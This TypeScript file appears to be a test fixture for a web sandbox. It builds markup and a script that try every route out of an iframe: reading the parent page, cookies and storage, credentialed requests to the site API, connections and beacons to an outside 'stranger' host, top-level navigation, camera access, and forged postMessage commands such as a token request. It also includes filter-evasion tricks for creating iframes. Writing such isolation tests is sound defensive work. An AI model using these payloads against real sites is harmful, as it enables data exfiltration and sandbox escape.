/** Markup that reaches out by itself. */
export const attackingBody = (stranger: string) =>
  `<div id="results"></div><link rel="preconnect" href="STRANGER"><iframe src="STRANGER/body"></iframe>
  <iframe srcdoc="<script>new RTCPeerConnection()</script>"></iframe><object data="STRANGER/object"></object>
  <img src="STRANGER/body.png"><video src="STRANGER/body.mp4" autoplay></video><meta http-equiv="x" content="STRANGER">`.replaceAll(
    'STRANGER',
    stranger,
  );

/** How many attempts the script makes; it says each one's outcome, and "done" when it is through. */
export const ATTACKS = 35;

/** Tries whatever leads out of a frame: to the page, to storage, to the site, to a stranger by TCP or (callerPort) by UDP. */
export const attackingScript = ({
  site,
  stranger,
  callerPort,
}: {
  site: string;
  stranger: string;
  callerPort: number;
}) => `
const results = document.getElementById('results');
const say = (name, outcome) => { const p = document.createElement('p'); p.textContent = name + ': ' + outcome; results.append(p); };
const attempt = async (name, action) => {
  try { say(name, 'GOT ' + await action()); } catch (error) { say(name, 'refused'); }
};
const loads = (element, address) => new Promise((resolve, reject) => {
  element.onload = () => resolve('loaded'); element.onerror = () => reject(new Error('error'));
  element.src = address; document.body.append(element);
});
const opens = (socket) => new Promise((resolve, reject) => {
  socket.onopen = () => resolve('open'); socket.onmessage = () => resolve('message'); socket.onerror = () => reject(new Error('error'));
});
(async () => {
  await attempt('parent document', () => parent.document.title);
  await attempt('parent storage', () => parent.localStorage.length);
  await attempt('top location', () => top.location.href);
  await attempt('cookie', () => document.cookie);
  await attempt('cookie set', () => { document.cookie = 'a=b'; return 'set'; });
  await attempt('local storage', () => localStorage.length);
  await attempt('session storage', () => sessionStorage.length);
  await attempt('database', () => indexedDB.open('x').readyState);
  await attempt('caches', async () => (await caches.keys()).length);
  await attempt('site api', async () => (await fetch('${site}/api/users', { credentials: 'include' })).status);
  await attempt('site page', async () => (await fetch('${site}/en')).status);
  await attempt('own origin', async () => (await fetch('/api/users/me')).status);
  await attempt('stranger', async () => (await fetch('${stranger}/fetch')).status);
  await attempt('stranger opaque', async () => (await fetch('${stranger}/opaque', { mode: 'no-cors' })).type);
  await attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', '${stranger}/xhr', false); x.send(); return x.status; });
  await attempt('socket', () => opens(new WebSocket('${stranger.replace('http', 'ws')}/socket')));
  await attempt('events', () => opens(new EventSource('${stranger}/events')));
  await attempt('image', () => loads(new Image(), '${stranger}/image.png'));
  await attempt('site image', () => loads(new Image(), '${site}/api/users?leak=1'));
  await attempt('script', () => loads(document.createElement('script'), '${stranger}/x.js'));
  await attempt('worker', () => new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
    worker.onmessage = () => resolve('ran'); worker.onerror = () => reject(new Error('error'));
  }));
  await attempt('eval', () => eval('1 + 1'));
  await attempt('popup', () => { const w = open('${stranger}/popup'); if (!w) throw new Error('none'); return 'opened'; });
  await attempt('top navigation', () => { top.location = '${stranger}/top'; return 'set'; });
  await attempt('parent navigation', () => { parent.location.href = '${stranger}/parent'; return 'set'; });
  await attempt('camera', async () => { await navigator.mediaDevices.getUserMedia({ video: true }); return 'on'; });
  await attempt('call', async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${callerPort}' }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    return 'rang';
  });
  await attempt('document within', () => document.body.append(document.createElement('iframe')));
  await attempt('twofold name', () => {
    let asked = 0;
    return document.createElement({ toString: () => (asked++ ? 'iframe' : 'p') }).contentWindow.name;
  });
  await attempt('other patterns', () => {
    const exec = RegExp.prototype.exec;
    RegExp.prototype.exec = () => null;
    try { return document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe').localName; }
    finally { RegExp.prototype.exec = exec; }
  });
  await attempt('document in a shadow', async () => {
    const host = document.createElement('div'); document.body.append(host);
    const within = document.createElementNS('http://www.w3.org/1999/xhtml', 'IFRAME'.toLowerCase());
    host.attachShadow({ mode: 'open' }).append(within);
    return typeof within.contentWindow.RTCPeerConnection;
  });
  await attempt('script from text', () => { document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="x"></iframe>'); return 'inserted'; });
  const ahead = (link) => { link.rel = 'preconnect'; link.href = '${stranger}'; document.head.append(link); return 'appended'; };
  await attempt('connection ahead', () => ahead(document.createElement('link')));
  await attempt('link of a class', () => {
    class Ahead extends HTMLLinkElement {}
    customElements.define('x-ahead', Ahead, { extends: 'link' });
    return ahead(new Ahead());
  });
  await attempt('link of a document', () => {
    const made = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'link');
    return ahead(document.importNode(made.documentElement));
  });
  navigator.sendBeacon && navigator.sendBeacon('${stranger}/beacon', 'x');
  const style = document.createElement('style'); style.textContent = '@import "${stranger}/x.css"; body { background: url(${stranger}/bg.png) }'; document.head.append(style);
  const form = document.createElement('form'); form.action = '${stranger}/form'; form.method = 'post'; document.body.append(form);
  try { form.submit(); } catch {}
  const said = (message) => parent.postMessage(message, '*');
  said({ kozyr: 'navigate', path: '/games' });
  said({ kozyr: 'navigate', path: '${stranger}/said' });
  said({ kozyr: 'height', height: 1e12 });
  said({ kozyr: 'token', give: true });
  said('x'.repeat(1e6));
  say('done', 'done');
})();`;
